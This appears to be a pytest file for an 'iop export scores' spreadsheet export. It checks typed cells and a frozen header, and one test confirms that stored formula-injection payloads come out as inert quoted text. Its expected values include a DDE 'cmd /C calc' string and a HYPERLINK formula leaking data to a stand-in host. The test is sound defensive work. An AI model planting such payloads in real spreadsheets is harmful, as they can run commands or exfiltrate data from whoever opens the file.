"""`iop export scores --out FILE.xlsx` writes a spreadsheet, read back with openpyxl as a
spreadsheet program would: typed cells, a frozen header row, no formula (issue 15 item 3)."""

from __future__ import annotations

import datetime as dt
import sqlite3

import openpyxl

from tests.cli.test_cli import HEADER, iop
from tests.cli.test_formula_cells import PAYLOADS

ITEMS = "1,2,3,0,1,2,3,0,1"


def _sheet(path):
    workbook = openpyxl.load_workbook(path)
    (sheet,) = workbook.worksheets
    header = [c.value for c in sheet[1]]
    rows = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    return sheet, header, rows


def test_the_score_export_as_xlsx_has_typed_cells_a_frozen_header_and_the_csvs_columns(
    tmp_path, db
):
    source = tmp_path / "in.csv"
    source.write_text(f"{HEADER}\nC1,phq9,2026-01-05,{ITEMS}\nC2,phq9,2026-01-12,{ITEMS}\n")
    assert iop("import", str(source), "--db", db).returncode == 0
    out = tmp_path / "scores.xlsx"
    result = iop("export", "scores", "--db", db, "--out", str(out))
    assert result.returncode == 0, result.stderr
    sheet, header, rows = _sheet(out)
    csv_header = iop("export", "scores", "--db", db).stdout.splitlines()[0].split(",")
    assert header == csv_header
    assert sheet.title == "Scores"
    assert sheet.freeze_panes == "B2"  # the header row and the client column stay in view
    (table,) = sheet.tables.values()  # a filter on every column, over every row
    assert table.autoFilter is not None
    assert table.ref == f"A1:{sheet.cell(1, len(header)).column_letter}{len(rows) + 1}"
    first = rows[0]
    assert first["client_id"].value == "C1"
    assert first["score"].value == 13
    assert first["score"].data_type == "n"
    assert first["item_1"].value == 1
    assert first["item_1"].data_type == "n"
    assert isinstance(first["administered_on"].value, dt.datetime)  # a date cell, not text
    assert first["administered_on"].value.date() == dt.date(2026, 1, 5)
    assert first["administered_on"].number_format == "yyyy-mm-dd"
    assert first["severity"].value == "Moderate"
    assert [r["client_id"].value for r in rows] == ["C1", "C2"]


def test_stored_formula_values_are_text_cells_with_the_csvs_quote(tmp_path, db):
    source = tmp_path / "in.csv"
    source.write_text(
        f"{HEADER}\n" + "".join(f"C{n},phq9,2026-01-05,{ITEMS}\n" for n in range(len(PAYLOADS)))
    )
    assert iop("import", str(source), "--db", db).returncode == 0
    with sqlite3.connect(db.removeprefix("sqlite:///")) as connection:
        for n, payload in enumerate(PAYLOADS.values()):
            connection.execute("UPDATE clients SET code = ? WHERE code = ?", (payload, f"C{n}"))
    out = tmp_path / "scores.xlsx"
    assert iop("export", "scores", "--db", db, "--out", str(out)).returncode == 0
    sheet, _, rows = _sheet(out)
    ids = sorted(r["client_id"].value for r in rows)
    assert ids == sorted(["'=1+1", "'+cmd|' /C calc'!A0", "'@SUM(1)", "'-1+1",
                          "'=HYPERLINK(\"http://example.invalid/?leak\",\"click\")",
                          "\\t=1+1", "\\r=1+1"])  # fmt: skip
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_an_export_that_cannot_be_written_leaves_no_file_and_says_why(tmp_path, db):
    out = tmp_path / "missing-folder" / "scores.xlsx"
    result = iop("export", "scores", "--db", db, "--out", str(out))
    assert result.returncode == 2
    assert result.stderr.startswith("error: cannot write")
    assert not out.exists()
    assert not list(tmp_path.glob("**/*.partial"))
